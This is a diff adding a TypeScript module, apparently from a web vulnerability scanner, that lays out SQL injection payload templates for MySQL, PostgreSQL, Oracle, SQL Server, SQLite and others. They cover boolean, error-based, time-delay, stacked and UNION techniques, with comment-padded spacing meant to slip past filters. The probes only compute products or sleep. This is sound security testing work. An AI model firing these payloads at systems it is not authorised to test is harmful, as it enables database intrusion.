@@ -1,0 +1,172 @@
+/**
+ * Every payload of this module, as tables, so that a test can hold each of them against the rules of harmless.ts.
+ * `v` is the value that stood in the place. No spaces where SQL allows: filters often strip them.
+ */
+import { joining } from '../insertion-points/prober.ts'
+
+/** How a predicate is put behind the value so that the rest of the statement still parses. */
+export interface Boundary {
+  readonly name: string
+  /** Where it makes sense: digits, a bare name (a column), what rows are ordered by, any text. */
+  readonly fits: 'number' | 'name' | 'order' | 'text'
+  /** 'narrows' keeps the original rows where the predicate holds; 'widens' shows others and is for reading requests only. */
+  readonly kind: 'narrows' | 'widens'
+  /** Its first true answer is one that other modules ask for, too. */
+  readonly quote?: "'" | '"'
+  readonly with: (v: string, predicate: string) => string
+}
+
+/** Raises an error in MySQL, PostgreSQL and SQLite: the absolute value of the smallest 64-bit integer. */
+const OVERFLOW = 'abs(-9223372036854775807-1)'
+
+export const BOUNDARIES: readonly Boundary[] = [
+  { name: 'number', fits: 'number', kind: 'narrows', with: (v, p) => `${v}-(Case/**/When(${p})Then(0)Else(98765)End)` },
+  { name: 'number, and', fits: 'number', kind: 'narrows', with: (v, p) => `${v}/**/And(${p})` },
+  { name: "text in '", fits: 'text', kind: 'narrows', quote: "'", with: (v, p) => joining(v, "'", p) },
+  {
+    name: "text in ', joined",
+    fits: 'text',
+    kind: 'narrows',
+    with: (v, p) => `${v}'||(Case/**/When(${p})Then''Else(Cast(${OVERFLOW}As/**/Char(9)))End)||'`,
+  },
+  { name: "pattern of Like in '", fits: 'text', kind: 'narrows', with: (v, p) => `${v}%'And(${p})And'%'='` },
+  { name: "text in ' in parentheses", fits: 'text', kind: 'narrows', with: (v, p) => `${v}')And(${p})And('q'='q` },
+  { name: 'text in "', fits: 'text', kind: 'narrows', quote: '"', with: (v, p) => joining(v, '"', p) },
+  {
+    name: 'order',
+    fits: 'order',
+    kind: 'narrows',
+    with: (v, p) => `${v},(Select(Case/**/When(${p})Then(1)Else(Select 1 Union Select ${OVERFLOW})End))`,
+  },
+  { name: 'order by expression', fits: 'name', kind: 'narrows', with: (v, p) => `(Case/**/When(${p})Then(${v})End)` },
+  { name: "text in ', or", fits: 'text', kind: 'widens', with: (v, p) => `${v}'Or(${p})And'q'='q` },
+  { name: "pattern of Like in ', or", fits: 'text', kind: 'widens', with: (v, p) => `${v}'Or(${p})And'%'='` },
+  { name: "text in ', or, rest cut", fits: 'text', kind: 'widens', with: (v, p) => `${v}'Or(${p})-- -` },
+  { name: "text in ') or, rest cut", fits: 'text', kind: 'widens', with: (v, p) => `${v}')Or(${p})-- -` },
+  { name: 'text in ", or', fits: 'text', kind: 'widens', with: (v, p) => `${v}"Or(${p})And"q"="q` },
+  { name: 'number, or', fits: 'number', kind: 'widens', with: (v, p) => `${v}/**/Or(${p})` },
+]
+
+/** The database shows the product of two numbers within an error text. `open` and `close` come from the context. */
+export interface Revealing {
+  readonly dbms: string
+  readonly expression: (a: number, b: number) => string
+}
+
+export const REVEALING: readonly Revealing[] = [
+  { dbms: 'MySQL', expression: (a, b) => `extractvalue(1,concat(0x7e,${a}*${b}))` },
+  { dbms: 'MySQL', expression: (a, b) => `updatexml(1,concat(0x7e,${a}*${b}),1)` },
+  { dbms: 'PostgreSQL', expression: (a, b) => `Cast(Chr(126)||(${a}*${b})As/**/Int)` },
+  { dbms: 'CockroachDB', expression: (a, b) => `Cast(Chr(126)||(${a}*${b})::Text/**/As/**/Int)` },
+  { dbms: 'Microsoft SQL Server', expression: (a, b) => `Convert(Int,Char(126)+Cast(${a}*${b}/**/As/**/Varchar))` },
+  { dbms: 'Oracle', expression: (a, b) => `to_number(XMLType(Chr(60)||Chr(58)||(${a}*${b})||Chr(62)))` },
+  { dbms: 'SQLite', expression: (a, b) => `json_extract(json_array(),Char(126)||(${a}*${b}))` },
+  { dbms: 'ClickHouse', expression: (a, b) => `toInt32(concat(char(126),toString(${a}*${b})))` },
+]
+
+/** How a scalar expression is put into the statement. */
+export interface Splice {
+  readonly name: string
+  readonly fits: Boundary['fits']
+  readonly dbms: readonly string[] | null
+  readonly with: (v: string, expression: string) => string
+}
+
+const JOINING = ['PostgreSQL', 'CockroachDB', 'Oracle', 'SQLite', 'ClickHouse']
+
+export const SPLICES: readonly Splice[] = [
+  { name: 'number', fits: 'number', dbms: null, with: (v, e) => `${v}-(${e})` },
+  { name: "text in '", fits: 'text', dbms: JOINING, with: (v, e) => `${v}'||(${e})||'` },
+  { name: "text in '", fits: 'text', dbms: ['MySQL'], with: (v, e) => `${v}'Xor(${e})Xor'z` },
+  {
+    name: "text in '",
+    fits: 'text',
+    dbms: ['Microsoft SQL Server'],
+    with: (v, e) => `${v}'+Cast(${e}/**/As/**/Varchar)+'`,
+  },
+  { name: 'text in "', fits: 'text', dbms: ['MySQL', 'SQLite'], with: (v, e) => `${v}"And(${e})And"z` },
+  { name: 'order', fits: 'order', dbms: null, with: (v, e) => `${v},(${e})` },
+  { name: 'name', fits: 'name', dbms: null, with: (_v, e) => `(${e})` },
+  { name: 'limit', fits: 'number', dbms: ['MySQL'], with: (v, e) => `${v}/**/Procedure/**/Analyse(${e},1)` },
+]
+
+/** Waits in the statement itself. One text that holds whether the place is a number or quoted. */
+export interface Waiting {
+  readonly dbms: string
+  readonly technique: 'time' | 'stacked'
+  /** What the value has to look like, any of it. */
+  readonly fits: readonly Boundary['fits'][]
+  readonly with: (v: string, seconds: string) => string
+}
+
+const ANY = ['text', 'number'] as const
+/** Where a condition or an expression within the statement would not parse: a limit, a name. */
+const BARE = ['number', 'name'] as const
+const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
+/** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
+const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
+export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
+const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
+
+export const WAITING: readonly Waiting[] = [
+  {
+    dbms: 'MySQL',
+    technique: 'time',
+    fits: ANY,
+    with: (v, s) => `${v || '1'} Xor${mysql(s)}/*'Xor${mysql(s)}Xor'"Xor${mysql(s)}Xor"*/`,
+  },
+  {
+    dbms: 'PostgreSQL',
+    technique: 'time',
+    fits: ANY,
+    with: (v, s) => `${number(v)}-(Select 0 From pg_sleep(${s}))/*'||(Select '' From pg_sleep(${s}))||'*/`,
+  },
+  { dbms: 'PostgreSQL', technique: 'time', fits: ['name'], with: (v, s) => `${v},(Select 1 From pg_sleep(${s}))` },
+  {
+    dbms: 'Oracle',
+    technique: 'time',
+    fits: ANY,
+    with: (v, s) => `${number(v)}-Dbms_Pipe.Receive_Message('q',${s})/*'||Dbms_Pipe.Receive_Message('q',${s})||'*/`,
+  },
+  {
+    // MySQL runs what stands in a comment of its own, and only then fails at the rest. The statement ends behind the
+    // comment: MariaDB reads no further where one ends within (10.11.19).
+    dbms: 'MySQL or PostgreSQL',
+    technique: 'stacked',
+    fits: BARE,
+    with: (v, s) => `${v};/*!Select Sleep(${s})*/;Select pg_sleep(${s})-- -`,
+  },
+  {
+    dbms: 'Microsoft SQL Server',
+    technique: 'stacked',
+    fits: ANY,
+    with: (v, s) => followed(v, `Waitfor Delay '0:0:${s}'`),
+  },
+]
+
+/** The harmless twin of what breaks a statement. */
+export const doubled = (v: string): string => `${v}''`
+
+/** Shows the product of two numbers between two words, as a column of a second result. */
+export interface Union {
+  readonly name: string
+  readonly open: string
+  readonly fits: Boundary['fits']
+}
+
+export const UNIONS: readonly Union[] = [
+  { name: "text in '", open: "'", fits: 'text' },
+  { name: 'number', open: '', fits: 'number' },
+  { name: "text in ' in parentheses", open: "')", fits: 'text' },
+  { name: 'text in "', open: '"', fits: 'text' },
+]
+
+export const ordered = (v: string, open: string, column: number): string => `${v}${open} Order By ${column}-- -`
+
+export const MARKS: readonly ((a: number, b: number) => string)[] = [
+  (a, b) => `'qv'||(${a}*${b})||'vq'`,
+  (a, b) => `concat('qv',${a}*${b},'vq')`,
+]
+
+export const united = (open: string, columns: readonly string[], dual = ''): string =>
+  `-98765${open} Union All Select ${columns.join(',')}${dual}-- -`
